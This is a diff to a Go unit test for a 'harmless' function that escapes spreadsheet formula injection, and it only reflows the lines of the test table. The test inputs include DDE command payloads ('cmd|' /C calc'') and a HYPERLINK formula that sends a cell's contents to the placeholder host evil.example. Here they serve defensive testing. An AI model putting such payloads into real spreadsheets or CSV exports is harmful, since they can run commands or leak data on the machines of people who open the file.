@@ -12,12 +12,17 @@ import (
 func TestHarmless(t *testing.T) {
 	t.Parallel()
 	for text, want := range map[string]string{
-		"": "", "Ann": "Ann", "Anna-Lena": "Anna-Lena", "a+b@example.com": "a+b@example.com", "3 - 2 = 1": "3 - 2 = 1", "李雷": "李雷", "O'Brien": "O'Brien",
+		"": "", "Ann": "Ann", "Anna-Lena": "Anna-Lena", "a+b@example.com": "a+b@example.com", "3 - 2 = 1": "3 - 2 = 1",
+		"李雷": "李雷", "O'Brien": "O'Brien",
 		`=1+1`: `'=1+1`, `+4915112345678`: `'+4915112345678`, `-2+3+cmd|' /C calc'!A0`: `'-2+3+cmd|' /C calc'!A0`, `@SUM(1,2)`: `'@SUM(1,2)`,
-		`=HYPERLINK("http://evil.example?x="&A1,"click")`: `'=HYPERLINK("http://evil.example?x="&A1,"click")`, `=cmd|' /C calc'!A0`: `'=cmd|' /C calc'!A0`,
-		"\t=1": "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", " =1": " '=1", "\u00a0=1": "\u00a0'=1", "\u3000=1": "\u3000'=1", "\ufeff=1": "\ufeff'=1", "\x00=1": "'=1",
+		`=HYPERLINK("http://evil.example?x="&A1,"click")`: `'=HYPERLINK("http://evil.example?x="&A1,"click")`,
+		`=cmd|' /C calc'!A0`:                              `'=cmd|' /C calc'!A0`,
+		"\t=1":                                            "'\t'=1", "\r=1": "'\r'=1", "\n=1": "'\n'=1", " =1": " '=1",
+		"\u00a0=1": "\u00a0'=1", "\u3000=1": "\u3000'=1",
+		"\ufeff=1": "\ufeff'=1", "\x00=1": "'=1",
 		"＝1+1": "'＝1+1", "＋1": "'＋1", "－1": "'－1", "＠A": "'＠A", "%0A=1": "'%0A=1", "|calc": "'|calc",
-		`";=1+1`: `";'=1+1`, "a;=1": "a;'=1", "a,=1": "a,'=1", "a\n=1": "a\n'=1", "a\r\n@x": "a\r\n'@x", `"=1`: `"'=1`, "Smith; -": "Smith; '-", "a\x07b": "ab",
+		`";=1+1`: `";'=1+1`, "a;=1": "a;'=1", "a,=1": "a,'=1", "a\n=1": "a\n'=1", "a\r\n@x": "a\r\n'@x", `"=1`: `"'=1`,
+		"Smith; -": "Smith; '-", "a\x07b": "ab",
 	} {
 		if got := harmless(text); got != want {
 			t.Errorf("%q: got %q, want %q", text, got, want)
